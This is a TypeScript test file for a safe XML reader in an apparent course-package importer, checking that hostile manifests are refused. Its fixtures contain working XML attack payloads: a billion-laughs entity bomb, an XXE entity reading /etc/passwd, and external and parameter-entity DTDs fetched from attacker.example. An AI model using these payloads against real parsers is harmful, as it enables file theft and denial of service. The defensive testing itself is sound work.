/** The safe XML reader: hostile documents are refused without expansion; namespaces resolve by URI. */
import { XmlDocumentError, attributeValue, childElements, parseXmlSafely } from '../../../src/platform/xml/safe-xml';
import { parsePackage } from '../../../src/modules/courses/packages/detect-package';
import { PackageError } from '../../../src/modules/courses/packages/package-types';
import { familyOf, xmlToJson } from '../../../src/modules/courses/packages/package-xml';
import { memorySource } from './fixture-source';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<manifest identifier="m"><organizations><organization identifier="o"><title>&lol9;</title></organization></organizations></manifest>`;

const XXE = `<?xml version="1.0"?>
<!DOCTYPE manifest [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<manifest identifier="m"><metadata><schemaversion>&xxe;</schemaversion></metadata></manifest>`;

const EXTERNAL_DTD = `<?xml version="1.0"?>
<!DOCTYPE manifest SYSTEM "http://attacker.example/evil.dtd">
<manifest identifier="m"/>`;

const PUBLIC_DTD = `<?xml version="1.0"?>
<!DOCTYPE manifest PUBLIC "-//X//DTD X//EN" "file:///etc/passwd">
<manifest identifier="m"/>`;

const PARAMETER_ENTITY = `<?xml version="1.0"?>
<!-- a comment first -->
<!DOCTYPE manifest [ <!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p; ]>
<manifest identifier="m"/>`;

function refusal(text: string): XmlDocumentError {
  try {
    parseXmlSafely(text, 'imsmanifest.xml');
  } catch (e) {
    expect(e).toBeInstanceOf(XmlDocumentError);
    return e as XmlDocumentError;
  }
  throw new Error('document was accepted');
}

describe('safe XML reader', () => {
  it.each([
    ['billion laughs', BILLION_LAUGHS],
    ['external entity (XXE) file:///etc/passwd', XXE],
    ['external DTD (SYSTEM)', EXTERNAL_DTD],
    ['external DTD (PUBLIC)', PUBLIC_DTD],
    ['parameter entity after a comment', PARAMETER_ENTITY],
  ])('refuses %s without expanding anything', (_name, text) => {
    const t0 = performance.now();
    const e = refusal(text);
    expect(performance.now() - t0).toBeLessThan(100);
    expect(e.kind).toBe('unsafe');
    expect(e.message).toMatch(/^imsmanifest\.xml was refused/);
    expect(e.message).toContain('XML must not declare entities (DTD entity declarations are refused for safety)');
    expect(e.message).not.toContain('root:');
  });

  it('refuses hostile manifests in packages with a PackageError', async () => {
    for (const text of [BILLION_LAUGHS, XXE]) {
      const p = parsePackage(memorySource({ 'imsmanifest.xml': text, 'index.html': '' }));
      await expect(p).rejects.toBeInstanceOf(PackageError);
      await expect(p).rejects.toThrow(/must not declare entities/);
    }
  });

  it('accepts a DOCTYPE without entities or external ids (and ignores it)', () => {
    const doc = parseXmlSafely('<?xml version="1.0"?>\n<!DOCTYPE manifest>\n<manifest a="1"/>', 'x.xml');
    expect(doc.root.local).toBe('manifest');
    expect(doc.root.line).toBe(3);
  });

  it('rejects references to undefined entities (no DTD means no entities)', () => {
    const e = refusal('<a>&nbsp;</a>');
    expect(e.kind).toBe('malformed');
    expect(e.message).toMatch(/&nbsp; is not defined/);
  });

  it('decodes the five predefined entities and numeric character references, not CDATA', () => {
    const doc = parseXmlSafely('<a t="&lt;&amp;&#65;&#x42;">&gt;&quot;&apos;&#233;<![CDATA[&amp;<b>]]></a>', 'x.xml');
    expect(attributeValue(doc.root, 't')).toBe('<&AB');
    expect(doc.root.text).toBe('>"\'é&amp;<b>');
  });

  it('rejects an unescaped ampersand with a hint', () => {
    expect(refusal('<a href="x?a=1&b=2"/>').message).toMatch(/&amp;/);
  });

  it('reports malformed XML with the file, line and column', () => {
    const e = refusal('<manifest>\n  <item>\n</manifest>');
    expect(e.kind).toBe('malformed');
    expect(e.message).toMatch(/^imsmanifest\.xml is not well-formed XML \(line 3, column \d+\): .*item/);
    expect(e.line).toBe(3);
  });

  it('rejects empty documents and several root elements', () => {
    expect(refusal('   ').message).toMatch(/not well-formed|no root element/);
    expect(refusal('<a/><b/>').message).toMatch(/2 root elements/);
  });

  it('refuses documents over the size limit before parsing', () => {
    const big = `<a>${'x'.repeat(2048)}</a>`;
    try {
      parseXmlSafely(big, 'big.xml', { maxBytes: 1024 });
      throw new Error('accepted');
    } catch (e) {
      expect((e as XmlDocumentError).kind).toBe('too-large');
      expect((e as Error).message).toMatch(/^big\.xml is too large to read/);
    }
  });

  it('resolves namespaces by URI, whatever the prefix', () => {
    const doc = parseXmlSafely(
      `<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:foo="http://www.adlnet.org/xsd/adlcp_v1p3" xmlns:ss="http://www.imsglobal.org/xsd/imsss">
         <resources><resource foo:scormType="sco" xml:base="a/"/></resources>
         <ss:sequencing><ss:controlMode choice="false"/></ss:sequencing>
         <inner xmlns="urn:other"><x/></inner>
       </manifest>`,
      'm.xml',
    );
    const [resources, seq, inner] = doc.root.children;
    const res = resources.children[0];
    expect(res.ns).toBe('http://www.imsglobal.org/xsd/imscp_v1p1');
    expect(res.attributes.find((a) => a.local === 'scormType')?.ns).toBe('http://www.adlnet.org/xsd/adlcp_v1p3');
    expect(res.attributes.find((a) => a.local === 'base')?.ns).toBe('http://www.w3.org/XML/1998/namespace');
    expect(familyOf(res.attributes[0])).toBe('adlcp');
    expect(seq.ns).toBe('http://www.imsglobal.org/xsd/imsss');
    expect(xmlToJson(seq)).toEqual({
      name: 'imsss:sequencing',
      attributes: {},
      children: [{ name: 'imsss:controlMode', attributes: { choice: 'false' }, children: [] }],
    });
    expect(inner.children[0].ns).toBe('urn:other');
    expect(doc.declaredNamespaces.has('urn:other')).toBe(true);
  });

  it('keeps undeclared prefixes (ns "") so callers can fall back to conventional prefixes', () => {
    const doc = parseXmlSafely('<item><adlcp:masteryscore>80</adlcp:masteryscore></item>', 'm.xml');
    const el = childElements(doc.root)[0];
    expect(el).toMatchObject({ prefix: 'adlcp', local: 'masteryscore', ns: '' });
    expect(familyOf(el)).toBe('adlcp');
  });

  it('normalizes whitespace in attribute values (XML 1.0 §3.3.3)', () => {
    const doc = parseXmlSafely('<a b="x\n\ty"/>', 'x.xml');
    expect(attributeValue(doc.root, 'b')).toBe('x  y');
  });

  it('rejects pathologically deep nesting', () => {
    const deep = '<a>'.repeat(1000) + '</a>'.repeat(1000);
    expect(() => parseXmlSafely(deep, 'deep.xml')).toThrow(XmlDocumentError);
  });
});
